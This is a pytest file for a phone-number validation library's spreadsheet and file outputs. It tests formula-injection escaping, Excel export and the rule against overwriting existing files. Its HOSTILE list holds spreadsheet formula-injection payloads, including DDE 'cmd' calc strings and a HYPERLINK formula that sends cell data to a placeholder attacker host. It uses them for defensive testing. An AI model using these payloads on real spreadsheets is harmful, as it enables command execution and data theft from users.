"""Outputs people open in a spreadsheet: ``hlr.to_excel`` / ``--out x.xlsx``, formula injection
(issue 24 row 11) and the no-overwrite rule at the moment of the final rename (row 8)."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

import pd_hlr
from pd_hlr import _io, cli
from pd_hlr.sandbox import Faults
from pd_hlr.sandbox.server import FORMULA_NAME

openpyxl = pytest.importorskip("openpyxl")

PHONES = ["+44 7400 123456", "07400 123457", "+1 201 555 0123", "+49 151 12345678", "call me", ""]
#: Every start OWASP's rule names, and cells that only look like them.
HOSTILE = ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.invalid/?"&A2,"x")']
HARMLESS = ["+447400123456", "+44 20 7946 0958 ext. 12", "-12.5", "-", "Vodafone UK", "", "EE"]


def _frame() -> pd.DataFrame:
    return pd.DataFrame({"name": [f"n{i}" for i in range(len(PHONES))], "phone": PHONES})


def _validate(server: Any, **options: Any) -> pd.DataFrame:
    with pd_hlr.HLRClient(token=server.token, base_url=server.url) as client:
        return _frame().hlr.validate(
            "phone", default_region="GB", detailed=True, client=client, cache=False,
            progress=False, **options,
        )


def _api_and_input(make_sandbox: Any, monkeypatch: pytest.MonkeyPatch, tmp_path: Path,
                   **knobs: Any) -> tuple[Any, Path]:
    """A sandbox reached as the real API is (token in the environment) and ``in.csv``."""
    sb = make_sandbox(**knobs)
    monkeypatch.setenv("PROVERO_API_TOKEN", sb.token)
    src = tmp_path / "in.csv"
    _frame().to_csv(src, index=False)
    return sb, src


# --- formula cells -------------------------------------------------------------------------------
@pytest.mark.parametrize("text", HOSTILE)
def test_every_owasp_start_is_neutralised(text: str) -> None:
    frame = pd.DataFrame({"a": pd.array([text, "ok"], dtype="string"), "b": [text, 1]})
    safe = _io.escape_formula_cells(frame)
    assert safe["a"].tolist() == ["'" + text, "ok"]
    assert safe["b"].tolist() == ["'" + text, 1]  # object columns: only the text cells
    assert safe["a"].dtype == frame["a"].dtype
    assert frame["a"].tolist() == [text, "ok"], "the caller's frame is untouched"


def test_plain_numbers_and_names_stay_as_they_are() -> None:
    frame = pd.DataFrame({"a": pd.array(HARMLESS, dtype="string")})
    assert _io.escape_formula_cells(frame) is frame  # nothing to change: the same frame
    assert not any(_io.is_formula_risk(t) for t in HARMLESS)


def test_polars_escaping_agrees_with_pandas() -> None:
    pl = pytest.importorskip("polars")
    cells = HOSTILE + HARMLESS
    got = _io.escape_formula_cells_polars(pl.DataFrame({"a": cells})).to_series().to_list()
    want = _io.escape_formula_cells(pd.DataFrame({"a": cells}))["a"].tolist()
    assert got == want


def test_hostile_network_names_in_csv_and_xlsx_are_neutralised(
    make_sandbox: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    sb, src = _api_and_input(make_sandbox, monkeypatch, tmp_path, faults=Faults(formula_name=1.0))
    base = ["validate", str(src), "-c", "phone", "--default-region", "GB", "--detailed",
            "--base-url", sb.url, "--no-cache"]
    for name in ("o.csv", "o.xlsx"):
        assert cli.main([*base, "--out", str(tmp_path / name)]) == 0, capsys.readouterr().err
    csv = pd.read_csv(tmp_path / "o.csv", dtype=str)
    xlsx = pd.read_excel(tmp_path / "o.xlsx", dtype=str)
    for frame in (csv, xlsx):
        answered = frame["hlr_source"] == "api"
        assert answered.sum() == 4
        assert (frame.loc[answered, "original_network_name"] == "'" + FORMULA_NAME).all()
        assert frame.loc[answered, "to"].str.startswith("+").all(), "numbers stay readable"
        assert frame["phone"].tolist()[:4] == PHONES[:4]
    book = openpyxl.load_workbook(tmp_path / "o.xlsx")
    assert not [c.coordinate for row in book["results"].iter_rows() for c in row
                if c.data_type == "f"], "no cell of the workbook is a formula"

    # The opt-out writes the names as they came; an xlsx cell is still text, never a formula.
    for name in ("raw.csv", "raw.xlsx"):
        args = [*base, "--out", str(tmp_path / name), "--no-escape-formulas"]
        assert cli.main(args) == 0
    assert FORMULA_NAME in set(pd.read_csv(tmp_path / "raw.csv")["original_network_name"])
    sheet = openpyxl.load_workbook(tmp_path / "raw.xlsx")["results"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA_NAME]
    assert len(cells) == 4 and {c.data_type for c in cells} == {"s"}


# --- Excel ---------------------------------------------------------------------------------------
def test_to_excel_writes_utc_times_and_the_report(sb: Any, tmp_path: Path) -> None:
    out = _validate(sb)
    path = tmp_path / "x.xlsx"
    out.hlr.to_excel(path)
    book = pd.read_excel(path, sheet_name=None)
    assert list(book) == ["results", "report"]
    back = book["results"]
    assert list(back.columns) == [str(c) for c in out.columns]
    assert len(back) == len(out)
    want = out["hlr_checked_at"].dt.tz_convert("UTC").dt.tz_localize(None)
    got = pd.to_datetime(back["hlr_checked_at"])
    assert got.isna().tolist() == want.isna().tolist()
    # Excel keeps a time to the millisecond (a day fraction): the same instant, in UTC
    assert ((got.dropna() - want.dropna()).abs() < pd.Timedelta("1ms")).all()
    report = book["report"].set_index(["section", "key"])["value"]
    assert int(report["report", "looked_up"]) == out.hlr.report().looked_up == 4
    assert "UTC" in report["note", "time zone"]
    sheet = openpyxl.load_workbook(path)["results"]
    header = {c.value: c for c in sheet[1]}
    assert header["hlr_checked_at"].comment.text == "UTC"
    assert out["hlr_checked_at"].dt.tz is not None, "the caller's frame keeps its time zone"


def test_to_excel_refuses_more_rows_than_a_sheet_holds(tmp_path: Path) -> None:
    big = pd.DataFrame({"a": range(1_048_576)})
    with pytest.raises(ValueError, match="do not fit in an Excel sheet"):
        big.hlr.to_excel(tmp_path / "big.xlsx")
    assert not list(tmp_path.iterdir())


def test_polars_engine_refuses_xlsx_before_sending(
    make_sandbox: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    pytest.importorskip("polars")
    sb, src = _api_and_input(make_sandbox, monkeypatch, tmp_path)
    code = cli.main(["validate", str(src), "-c", "phone", "--engine", "polars", "--base-url",
                     sb.url, "--out", str(tmp_path / "o.xlsx")])
    assert code == cli.EXIT_INPUT
    assert "--engine pandas" in capsys.readouterr().err
    assert sb.stats().requests == 0


# --- the no-overwrite rule at the final rename ---------------------------------------------------
def test_write_atomically_keeps_a_file_that_appeared_meanwhile(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"

    def write(tmp: Path) -> None:
        target.write_text("theirs")  # another program, while we write
        tmp.write_text("ours")

    with pytest.raises(_io.OutputAppearedError) as err:
        _io.write_atomically(target, write, replace=False)
    assert target.read_text() == "theirs"
    assert err.value.kept.read_text() == "ours" and err.value.kept.parent == tmp_path
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["out.csv", err.value.kept.name])

    _io.write_atomically(target, lambda tmp: tmp.write_text("forced"), replace=True)
    assert target.read_text() == "forced"


def _appear_during_the_run(sb: Any, path: Path, content: str) -> None:
    """At the sandbox's first request (the run has checked its output and is paying), another
    program creates ``path``: the sandbox's pause hook, called for its latency."""
    real = sb._state.pause

    def pause(seconds: float) -> bool:
        if not path.exists():
            if content == "<folder>":
                (path / "theirs").mkdir(parents=True)
            else:
                path.write_text(content)
        return real(seconds)

    sb._state.pause = pause


@pytest.mark.parametrize(
    ("engine", "name"),
    [("pandas", "o.csv"), ("pandas", "o.parquet"), ("pandas", "o.xlsx"),
     ("polars", "o.csv"), ("polars", "o.parquet"), ("dask", "o.hlr")],
)
def test_an_output_that_appears_during_the_run_is_not_replaced(
    make_sandbox: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str], engine: str, name: str,
) -> None:
    pytest.importorskip({"pandas": "pandas", "polars": "polars", "dask": "dask"}[engine])
    sb, src = _api_and_input(make_sandbox, monkeypatch, tmp_path, latency=0.001)
    out = tmp_path / name
    folder = engine == "dask"
    _appear_during_the_run(sb, out, "<folder>" if folder else "theirs")
    args = ["validate", str(src), "-c", "phone", "--default-region", "GB", "--engine", engine,
            "--base-url", sb.url, "--cache", str(tmp_path / "cache"), "--out", str(out)]
    code = cli.main(args)
    err = capsys.readouterr().err
    assert code == cli.EXIT_INPUT, err
    assert "appeared while the run was writing" in err and "--force" in err
    if folder:
        assert [p.name for p in out.iterdir()] == ["theirs"]
    else:
        assert out.read_text() == "theirs"
    kept = [p for p in tmp_path.iterdir() if p.name.startswith("new-")]
    assert len(kept) == 1 and kept[0].name in err
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")], "no temp file left"
    assert sb.stats().total_charged == 4
    if name.endswith((".parquet", ".hlr")):  # this run's output, whole, beside theirs
        assert len(pd.read_parquet(kept[0])) == len(PHONES)

    # With --force the output is replaced (the answers come from the cache).
    assert cli.main([*args, "--force"]) == 0
    if folder:
        assert not (out / "theirs").exists() and len(pd.read_parquet(out)) == len(PHONES)
    else:
        assert out.read_bytes() != b"theirs"


def test_dask_output_folder_is_written_whole(
    make_sandbox: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    pytest.importorskip("dask")
    sb, src = _api_and_input(make_sandbox, monkeypatch, tmp_path)
    out = tmp_path / "o.hlr"
    out.mkdir()  # an empty folder is no output: it is used
    args = ["validate", str(src), "-c", "phone", "--engine", "dask", "--base-url", sb.url,
            "--no-cache", "--out", str(out)]
    assert cli.main(args) == 0
    assert len(pd.read_parquet(out)) == len(PHONES)
    assert sorted(os.listdir(tmp_path)) == ["in.csv", "o.hlr"]


# --- small ones from issue 25 ---------------------------------------------------------------------
def test_to_parquet_and_to_excel_make_a_missing_folder(sb: Any, tmp_path: Path) -> None:
    out = _validate(sb)
    out.hlr.to_parquet(tmp_path / "new" / "dir" / "x.parquet")
    out.hlr.to_excel(tmp_path / "other" / "x.xlsx")
    assert pd.read_parquet(tmp_path / "new" / "dir" / "x.parquet").hlr.report().looked_up == 4
    assert len(pd.read_excel(tmp_path / "other" / "x.xlsx")) == len(out)


@pytest.mark.parametrize("lazy", [False, True])
def test_polars_written_parquet_keeps_its_report_for_pandas(
    sb: Any, tmp_path: Path, lazy: bool
) -> None:
    pl = pytest.importorskip("polars")
    import pd_hlr.polars  # registers the namespace

    frame = pl.from_pandas(_frame())
    with pd_hlr.HLRClient(token=sb.token, base_url=sb.url) as client:
        source = frame.lazy() if lazy else frame
        out = source.hlr.validate("phone", default_region="GB", client=client, cache=False)
        path = tmp_path / "x.parquet"
        if lazy:
            out.hlr.sink_parquet(path)
        else:
            out.hlr.write_parquet(path)
    back = pd.read_parquet(path)
    assert back.hlr.report() == out.hlr.report()
    assert back.hlr.report().looked_up == 4


@pytest.mark.parametrize("name", ["x.csv", "x.csv.gz"])
def test_hlr_to_csv_escapes_and_compresses_by_the_name(
    make_sandbox: Any, tmp_path: Path, name: str
) -> None:
    sb = make_sandbox(faults=Faults(formula_name=1.0))
    out = _validate(sb)
    out.hlr.to_csv(tmp_path / name)
    back = pd.read_csv(tmp_path / name, dtype=str)  # pandas infers gzip from the name
    answered = back["hlr_source"] == "api"
    assert (back.loc[answered, "original_network_name"] == "'" + FORMULA_NAME).all()
    assert back["phone"].tolist()[:4] == PHONES[:4]
    out.hlr.to_csv(tmp_path / f"raw-{name}", escape_formulas=False)
    raw = pd.read_csv(tmp_path / f"raw-{name}", dtype=str)
    assert (raw.loc[answered, "original_network_name"] == FORMULA_NAME).all()
